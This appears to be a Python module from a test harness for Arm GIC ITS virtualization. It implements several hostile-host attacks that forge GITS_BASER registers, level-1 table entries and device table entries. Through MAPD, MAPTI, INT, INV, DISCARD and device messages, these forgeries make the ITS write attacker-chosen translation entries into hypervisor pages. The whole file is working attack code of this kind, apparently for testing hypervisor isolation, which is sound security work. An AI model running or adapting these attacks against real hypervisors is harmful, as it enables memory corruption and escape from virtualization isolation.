"""Attacks through the ITS's tables: A1, A2, A3, A16 and the forged level-2 page.

All aim at the same thing: a device table entry that the host chose, in memory that it chose. Whoever controls an entry's
ITT_base writes interrupt translation entries anywhere (IHI 0069H.b: entries made by software are UNPREDICTABLE).
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Final

from itsbox.arch.its_commands import DISCARD, INT, INV, MAPTI
from itsbox.arch.its_registers import GITS_BASER, TABLE_DEVICES, baser_stored_address
from itsbox.arch.its_tables import DTE, L1_ENTRY_SIZE, L1Entry
from itsbox.arch.values import FIRST_LPI, PAGE_SIZE, SIZE_64K
from itsbox.arch.words import high_half, low_half
from itsbox.host.attacks import EVENT_BITS, CannotBePlayed, SetUpFails

if TYPE_CHECKING:
    from itsbox.host.attacks import HostileHost

__all__ = [
    "VICTIM_DEVICE", "baser_half_switched", "baser_to_hyp_page", "forged_dte", "forged_level_2",
    "level_1_to_hyp_page", "level_2_by_other_commands",
]  # fmt: skip

VICTIM_DEVICE: Final = 0x40
"""A DeviceID that level-2 page 0 covers, and that the driver does not use."""
_CRAFTED: Final = FIRST_LPI + 0x155


def _device_table(host: HostileHost) -> tuple[int, GITS_BASER]:
    """(n, value as the host reads it) of the device table's register; without it there is nothing to attack."""
    found = host.baser(TABLE_DEVICES)
    if found is None:
        raise SetUpFails("the registers of the tables cannot be read")
    return found


def baser_to_hyp_page(host: HostileHost) -> None:
    """A1: GITS_BASER of a flat device table names a hypervisor page; MAPD writes an entry there."""
    victim = host.hyp_page(1)
    host.show("The victim: a page of the hypervisor, before.", victim + 8 * VICTIM_DEVICE)
    found = _device_table(host)
    n, value = found
    flat = value.replace(
        physical_address=baser_stored_address(victim, SIZE_64K), page_size=2, size=0, indirect=0, valid=1
    )
    same_shape = value.replace(physical_address=flat.physical_address)
    for text, forged in (
        ("Name the hypervisor's page as a flat device table.", flat),
        ("If the table's shape must stay, change its address alone.", same_shape),
    ):
        host.say("Disable the ITS: its tables may only be changed then.")
        host.enable(False)
        host.say(text)
        host.write(host.gits(GITS_BASER, n), forged.word())
        host.say("Enable the ITS, which takes the table over.")
        host.enable(True)
        host.say("Map a device: the ITS writes its entry into the hypervisor's page.")
        host.map_own(VICTIM_DEVICE)
    host.show("The same page, after.", victim + 8 * VICTIM_DEVICE)


def baser_half_switched(host: HostileHost) -> None:
    """A16: GITS_BASER is changed in halves, while enabled and at once after the ITS was disabled, without waiting."""
    victim = host.hyp_page(2)
    found = _device_table(host)
    n, value = found
    at = host.gits(GITS_BASER, n)
    forged = value.replace(
        physical_address=baser_stored_address(victim, SIZE_64K), page_size=2, size=0, indirect=0, valid=1
    ).word()
    host.say("Write half of the register while the ITS runs.")
    host.write(at, low_half(forged), 4)
    host.say("Disable it, do not wait for Quiescent, and write the halves.")
    host.enable(False)
    host.write(at, low_half(forged), 4)
    host.write(at + 4, high_half(forged), 4)
    host.say("Enable it between and after.")
    host.enable(True)
    host.say("Map a device through whatever table this has become.")
    host.map_own(VICTIM_DEVICE + 1)
    host.show("The hypervisor's page where a flat table's entry would be.", victim + 8 * (VICTIM_DEVICE + 1))


def level_1_to_hyp_page(host: HostileHost) -> None:
    """A2: a level-1 entry of the device table names hypervisor memory as its level-2 page; MAPD writes an entry there."""
    victim = host.hyp_page(3)
    device_id = 5 * host.per_page(TABLE_DEVICES) + 3
    slot = host.l1_slot(TABLE_DEVICES, device_id)
    if slot is None:
        baser_to_hyp_page(host)  # a flat table has no level 1; its base is the way
        return
    host.show("The victim: a hypervisor page, where entry 3 of the level-2 page will lie.", victim + 3 * 8)
    host.say("Write a level-1 entry that names the hypervisor's memory.")
    host.store(slot, L1Entry.STRUCT.pack(*L1Entry(address=victim, valid=1).encode()))
    host.say("Map a device that this level-1 entry covers.")
    host.map_own(device_id)
    host.say("Reach the walk by another command, in case only MAPD is looked at.")
    host.post(INT(device_id=device_id, event_id=0))
    host.show("The same place, after.", victim + 3 * 8)
    host.say("The same with a page of the guest, and a second entry.")
    host.store(slot + L1_ENTRY_SIZE, L1Entry.STRUCT.pack(*L1Entry(address=host.guest_page(), valid=1).encode()))
    host.map_own(device_id + host.per_page(TABLE_DEVICES))


def forged_level_2(host: HostileHost) -> None:
    """The level-2 page that the host adds holds a forged device entry before it is handed over."""
    victim = host.hyp_page(4)
    per_page = host.per_page(TABLE_DEVICES)
    device_id = 6 * per_page
    slot = host.l1_slot(TABLE_DEVICES, device_id)
    if slot is None:
        forged_dte(host)
        return
    page = host.pages(SIZE_64K // PAGE_SIZE, SIZE_64K)
    host.say("Prepare a level-2 page in which device 1 has its translation table in hypervisor memory.")
    entry = DTE(valid=1, size=EVENT_BITS, itt_addr=victim)
    host.store(page + 8, DTE.STRUCT.pack(*entry.encode()))
    host.say("Add it to level 1, as a driver does for new DeviceIDs.")
    host.store(slot, L1Entry.STRUCT.pack(*L1Entry(address=page, valid=1).encode()))
    host.say("Have it taken over by mapping another device that it covers, harmlessly.")
    host.map_own(device_id)
    host.say("Use the forged entry: an interrupt translation entry goes where it says.")
    host.post(MAPTI(device_id=device_id + 1, event_id=0, intid=_CRAFTED, icid=0))
    host.show("The victim, after.", victim)


def level_2_by_other_commands(host: HostileHost) -> None:
    """22: a level-2 page that the host adds, a forged entry in it, is reached by MAPTI, INT, INV and DISCARD, without a MAPD."""
    victim = host.hyp_page(3)
    device_id = 4 * host.per_page(TABLE_DEVICES) + 1
    slot = host.l1_slot(TABLE_DEVICES, device_id)
    if slot is None:
        raise CannotBePlayed("the device table has one level")
    page = host.pages(SIZE_64K // PAGE_SIZE, SIZE_64K)
    host.say(
        "Prepare a level-2 page in which device 1 has its translation table in hypervisor memory, and add it to level 1."
    )
    host.store(page + DTE.SIZE, DTE.STRUCT.pack(*DTE(valid=1, size=EVENT_BITS, itt_addr=victim).encode()))
    host.store(slot, L1Entry.STRUCT.pack(*L1Entry(address=page, valid=1).encode()))
    host.say("No MAPD for that range. The commands that a hypervisor lets through unlooked at walk there first.")
    host.post(
        MAPTI(device_id=device_id, event_id=0, intid=_CRAFTED, icid=0),
        INT(device_id=device_id, event_id=0),
        INV(device_id=device_id, event_id=0),
        DISCARD(device_id=device_id, event_id=0),
    )
    host.say("A message of the device walks there too.")
    host.msi(device_id, 0)
    host.show("The victim, after.", victim)


def forged_dte(host: HostileHost) -> None:
    """A3: the host edits a device table entry in memory; MAPTI writes a translation entry to where it points."""
    victim = host.hyp_page(5)
    host.show("The victim: a page of the hypervisor, before.", victim)
    host.say("Map a device honestly, so that there is an entry.")
    host.map_own(VICTIM_DEVICE + 2)
    at = host.table_entry(TABLE_DEVICES, VICTIM_DEVICE + 2)
    if at is None:
        raise SetUpFails("the device's entry cannot be found")
    host.say("Edit the entry: ITT_base is now the hypervisor's page (the Arm manual calls that UNPREDICTABLE).")
    entry = DTE(valid=1, size=EVENT_BITS, itt_addr=victim)
    host.store(at, DTE.STRUCT.pack(*entry.encode()))
    host.say("MAPTI: the ITS writes an interrupt translation entry, INTID and ICID of our choice, to ITT_base.")
    host.post(MAPTI(device_id=VICTIM_DEVICE + 2, event_id=0, intid=_CRAFTED, icid=1))
    host.show("The same page, after: the low half of the entry is what the host asked for.", victim)
    host.say("The same once more, by a message of the device: the ITS reads the hypervisor's page for a translation.")
    host.msi(VICTIM_DEVICE + 2, 1)
